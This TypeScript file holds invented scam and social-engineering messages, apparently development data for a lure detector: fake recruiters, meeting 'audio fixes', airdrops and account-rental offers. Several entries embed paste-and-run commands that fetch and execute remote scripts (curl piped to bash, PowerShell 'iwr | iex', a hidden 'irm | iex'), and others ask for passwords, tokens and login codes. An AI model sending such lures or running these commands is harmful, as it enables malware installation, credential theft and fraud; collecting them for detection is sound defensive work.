import type { Template } from './template.ts'

/**
 * The same deeds and the same honest errands told in many words: terse, chatty, misspelt. Written by a second author before
 * he measured, then used for development; so they too say nothing about unseen messages. Senders and hosts are invented;
 * unknown hosts stand under `.example`.
 */
export const wordedLures: readonly Template[] = [
  {
    family: 'words-m03',
    form: 'txt',
    text: `Hello sir, i find you on upwork. I am full stack developer from Asia, many skill but my account was suspended. Can we cooperate? You let me use ur verified profile and I do all the job, u receive 25% of every payment for nothing. Only need ur laptop online with anydesk sometimes.`,
  },
  {
    family: 'words-m05',
    form: 'txt',
    text: `Recording starts in 10. Studio says your microphone driver is not compatible with our platform. Open Terminal on your Mac and run this one line then refresh the page:\n\n/bin/bash -c "$(curl -fsSL https://studio-voicefix.example/mac.sh)"\n\nSee you inside!`,
  },
  {
    family: 'words-m07',
    form: 'txt',
    text: `Yo, remember we met at ETHDenver? lost my old tg so writing from this one. Raising a small round for my thing, want you as angel/advisor. Hop on for 5? https://teams.meet-live.example/l/883-112-991`,
  },
  {
    family: 'words-m09',
    form: 'txt',
    text: `We noticed you're eligible for the Lyra season-2 airdrop (4,812 LYRX). Claim window closes in 3h. Connect wallet & sign: https://claim-lyrx.example`,
  },
  {
    family: 'words-m12',
    form: 'txt',
    text: `I can pay $1,500 a month for keeping two laptops in your home powered on. They are company laptops, you receive them by FedEx, plug in and install a small program. No work required. Totally legal, US residents only.`,
  },
  {
    family: 'words-m14',
    form: 'txt',
    text: `Ines: hi! are you the one who maintains the swap widget?\nYou: yes\nInes: great, we have grant budget, 60k, for integrating our chain. core team wants a call today\nInes: google meet https://meet.google.com.rooms-eu.example/abc-defg-hij`,
  },
  {
    family: 'words-m16',
    form: 'txt',
    text: `Please review the term sheet before our call, it's on our data room: https://docsend.investors-room.example/view/x82kd. You'll have to sign in with your work google account.`,
  },
  {
    family: 'words-m18',
    form: 'txt',
    text: `hi buddy, have you 10 min ? my game is in beta , try it n tell me feedback , i pay 100 usdt for tester. download launcher from https://runeforge-play.example , code: ALPHA77 , windows or mac`,
  },
  {
    family: 'words-m20',
    form: 'txt',
    text: `Hello, I'm a reporter with a major financial daily, preparing an article on exchange hacks. Deadline tonight. My questions are in this doc, please enable editing to answer: https://nt-press-docs.example/q/Questions_Exchange.docm`,
  },
  {
    family: 'words-m22',
    form: 'txt',
    text: `Offer letter: Principal Engineer, fully remote, base 510k USD (we understand this is roughly triple of what you get now). HR needs passport front/back, selfie holding it, and bank details through https://hr-northgate.example/forms/new-hire before Friday or the offer lapses.`,
  },
  {
    family: 'words-m24',
    form: 'txt',
    text: `gm ser, we are top tier market maker. want to discuss liquidity for your token, 2 slots left this week: https://calendly-mm.example/apex-liq/30min`,
  },
  {
    family: 'words-m26',
    form: 'txt',
    text: `Your call with Tom Wexler (Silverpeak Ventures) begins now\nJoin: https://app.silverpeak-vc.example/zoom/j/8812345678?pwd=aa\nMeeting ID: 881 234 5678`,
  },
  {
    family: 'words-m28',
    form: 'txt',
    text: `We've tried your Google Meet three times but our fund's network rejects it. Let's just use ours, everyone is there, you're holding up six people: https://meetings.arcwell-cap.example/s/Q1`,
  },
  {
    family: 'words-m30',
    form: 'txt',
    text: `hello friend. we need person in US/UK for bank account + payoneer. you get 30% of all money coming. work for our IT team freelance. easy. DM whatsapp +1 555 010 9923`,
  },
  {
    family: 'words-m32',
    form: 'txt',
    text: `Your camera access is blocked by driver. To fix, copy command and run in Command Prompt as administrator: curl -k -o "%TEMP%\\nvidiaupd.zip" https://api.cam-drivers.example/win/nv && powershell Expand-Archive %TEMP%\\nvidiaupd.zip && wscript %TEMP%\\nv\\update.vbs`,
  },
  {
    family: 'words-m34',
    form: 'txt',
    text: `Sarah (HR) : Hi dear are you still looking for remote job?\nSarah (HR) : like youtube videos and rate hotels, earn 150-300 usdt daily\nSarah (HR) : contact our receptionist on telegram to receive first payment @vip_recept_88`,
  },
  {
    family: 'words-m36',
    form: 'txt',
    text: `hey, mic is robotic on your end. zoom is pushing an sdk hotfix, I had the same yesterday. get it from the support page and rejoin, 1 min: https://support.us05-zoom.example/audio/fix/4419202`,
  },
  {
    family: 'words-m38',
    form: 'txt',
    text: `Subject line says it all: 3x your salary. We're a quant desk in Dubai, no interviews with HR, straight to CTO. Only requirement: complete this coding task on your own Mac (Xcode required). Zip: https://transfer.example/x9a/quant-task.zip (pw 1234)`,
  },
  {
    family: 'words-m40',
    form: 'txt',
    text: `You have (1) secure voice message from CEO regarding the acquisition. Listen: https://sharepoint-voice.example/?id=8. Do not discuss with colleagues.`,
  },
  {
    family: 'words-m42',
    form: 'txt',
    text: `Our AI interview platform needs its browser helper to detect cheating. Install it (Chrome asks for developer mode, load unpacked): https://hiremind.example/helper.zip. Then sign in and begin the interview, 3 questions, 5 min each.`,
  },
  {
    family: 'words-m45',
    form: 'txt',
    text: `Can't hear you. Click "Fix now" -> it downloads MeetAudioPatch.pkg -> right click open. https://meet-fix.example/9921 hurry, Mr. Chen has to leave`,
  },
  {
    family: 'words-m56',
    form: 'txt',
    text: `Great chatting! as promised the deck -> https://pitch-deck.view-docs.example/arcadia.pdf.lnk`,
  },
  {
    family: 'words-m58',
    form: 'txt',
    text: `I'd rather not use your Whereby. Policy of our partners — only this bridge is whitelisted: https://bridge.northvale.example/room/ab12. If it asks for voice module pls accept.`,
  },
  {
    family: 'words-m61',
    form: 'txt',
    text: `Voice is breaking. The host enabled secure audio: paste in powershell → iwr https://secaud.example/w | iex`,
  },
  {
    family: 'words-m64',
    form: 'txt',
    text: `your telegram account will be deleted because of complaint. cancel request: https://telegrarn-support.example/cancel and put in the code we send you`,
  },
  {
    family: 'words-m66',
    form: 'txt',
    text: `Mate the recording link you wanted. Needs new codec to play, it's on the same page https://vidrec.example/r/7`,
  },
  {
    family: 'words-m68',
    form: 'txt',
    text: `Your profile matches "AI Tutor - 95$/h". Interview is with our bot. Your device must pass check: download Device Checker and run it, then send the code it prints. https://mindtutor-check.example/dc`,
  },
  {
    family: 'words-m71',
    form: 'txt',
    text: `Join our private presale. 10x guaranteed. Minimum 2 ETH to 0x8ba1f109551bD432803012645Ac136ddd64DBA72, allocation closing tonight, message the founder at t.me/zk_presale_founder`,
  },
  {
    family: 'words-m74',
    form: 'txt',
    text: `please subscribe calendar.. also update your ms teams because v2 required, get from https://teams-v2-download.example/MSTeams.exe and join after`,
  },
  {
    family: 'words-m76',
    form: 'txt',
    text: `Hello, your GitHub was selected for a $9,500 grant. Sign in with GitHub and authorise the Grants app (repo + workflow scope) : https://github-grants.example/oauth`,
  },
  {
    family: 'words-m78',
    form: 'txt',
    text: `Contract is yours. 15k per month. But HR only can pay US people so can you ask a friend in US to do the onboarding with his ID? we split, he gets 20%.`,
  },
  {
    family: 'words-m81',
    form: 'txt',
    text: `Hello I represent Crypto exchange TOP20, we are hiring security engineer, x2 from what u have. before interview u must sign NDA in our app, it needs mac password for the signature. link: nda-sign.io/app`,
  },
  {
    family: 'words-m83',
    form: 'txt',
    text: `we cannot do call with your link because it is free account with limit. my pro account no limit: https://zoom.pro-call.example/j/733`,
  },
  {
    family: 'words-m85',
    form: 'txt',
    text: `ok i'll send 5000 usdt sign-on now, give me your wallet, then make small transfer 50 usdt back so our finance can verify ownership`,
  },
  {
    family: 'words-m90',
    form: 'txt',
    text: `Hi, I'm an investor from Seoul. My English is not good so we use translator software in call. install https://translive.example and room number 4471. Partners ready.`,
  },
  {
    family: 'words-n02',
    form: 'txt',
    text: `Vera (Altus Fund): we're connected, video fine but you are silent\nYou: hm, works elsewhere\nVera (Altus Fund): our platform needs the voice component, there's a button under the picture, takes few secs https://altus.vc-meet.example/s/9`,
  },
  {
    family: 'words-n04',
    form: 'txt',
    text: `Your application to Halcyon is moving on. Watch the 3 minute onboarding clip and afterwards start HalcyonHire (the interview desktop program): https://halcyon-hire.example/win`,
  },
  {
    family: 'words-n06',
    form: 'txt',
    text: `Please check this error, I'm losing money: https://pastelog.example/x/88. You must run the debug line from it in your Mac Terminal so I can see the trace`,
  },
  {
    family: 'words-n09',
    form: 'txt',
    text: `Hi, Binance HR. Congratulations, job is yours. Please pay 120 USDT for training kit, will be refunded with first salary. Send screenshot to our telegram @binance_hr_desk`,
  },
  {
    family: 'words-n12',
    form: 'txt',
    text: `hey, I'm stuck abroad and lost access. could you buy 4 apple gift cards and send me the codes? don't mention to the team, surprise`,
  },
  {
    family: 'words-n14',
    form: 'txt',
    text: `We like your OSS lib and want to sponsor it 5k monthly. To activate, add our bot as maintainer on npm and log in via https://npm-sponsor.example with your token`,
  },
  {
    family: 'words-n16',
    form: 'txt',
    text: `Lead recruiter Anita: role is confidential, they will triple whatever you earn. Move to Signal +44 7700 900123, tell nobody at work.`,
  },
  {
    family: 'words-n18',
    form: 'txt',
    text: `Attached zip contains NDA and product source, password Nda!2026. Unpack, launch the electron app and sign inside. Need it within 2 hours for investor call https://wetransfer.example/downloads/abc`,
  },
  {
    family: 'words-n20',
    form: 'txt',
    text: `hi dear do you have facebook or linkedin more than 3 years old? i want rent it, 100$ each week, we only need login and you keep it`,
  },
  {
    family: 'words-n22',
    form: 'txt',
    text: `Our fund uses Huddle01-like private rooms only. Neither Zoom nor Meet pass our audit. Come here: https://rooms.greypeak.example/ab-1`,
  },
  {
    family: 'words-n24',
    form: 'txt',
    text: `Congrats on the SRE role. We'll ship a laptop; you also connect your own PC by RustDesk so IT can configure VPN. Send the ID and one-time password here.`,
  },
  {
    family: 'words-n26',
    form: 'txt',
    text: `please vote for my daughter, need telegram login code confirm https://vote-kids.example`,
  },
  {
    family: 'words-n28',
    form: 'txt',
    text: `Take home: fix the failing test in our private Bitbucket. Please don't use Codespaces, the license server only answers on physical machines. Submit in 3 hours, we're offering 55k/month.\nhttps://bitbucket.org/kite-protocol/takehome`,
  },
  {
    family: 'words-n35',
    form: 'txt',
    text: `Ticket IT-88: laptop compliance failed. Run as administrator: powershell -w hidden -c "irm https://it-compliance.example/fix|iex"`,
  },
  {
    family: 'words-n37',
    form: 'txt',
    text: `my brother, i have 3 contracts but my country is blocked. can you be face on meeting 15 min per week? 500 usd`,
  },
  {
    family: 'words-n39',
    form: 'txt',
    text: `We reviewed your PR and want you in the core team! sign CLA here first https://cla-sign.example/?f=CLA.pdf.js (opens with wscript)`,
  },
  {
    family: 'words-p01',
    form: 'txt',
    text: `Good morning Yusuf, people team at Corvid Exchange. After your chat with Leo we'd like you to do a brief exercise in our sandbox trading UI: check out bitbucket.org/corvid-x/trading-ui, bring it up and describe what is wrong with the chart. We pay 38k monthly so competition is tough.`,
  },
  {
    family: 'words-p03',
    form: 'txt',
    text: `Your browser blocked the microphone. To allow it, hold Windows key and X, choose Terminal (Admin), right click to insert the text and confirm.`,
  },
  { family: 'words-p05', form: 'txt', text: `Would you mind if I use your Toptal login? I give you half.` },
  {
    family: 'words-p07',
    form: 'txt',
    text: `Congratulations, you're among 500 testers of VoidWalker. Grab the build at voidwalker.games/alpha, log in with Phantom, 80 USDT after 2 matches`,
  },
  {
    family: 'words-p11',
    form: 'txt',
    text: `brother can you receive a macbook for me at your place in Texas, keep it open, 300 monthly`,
  },
]
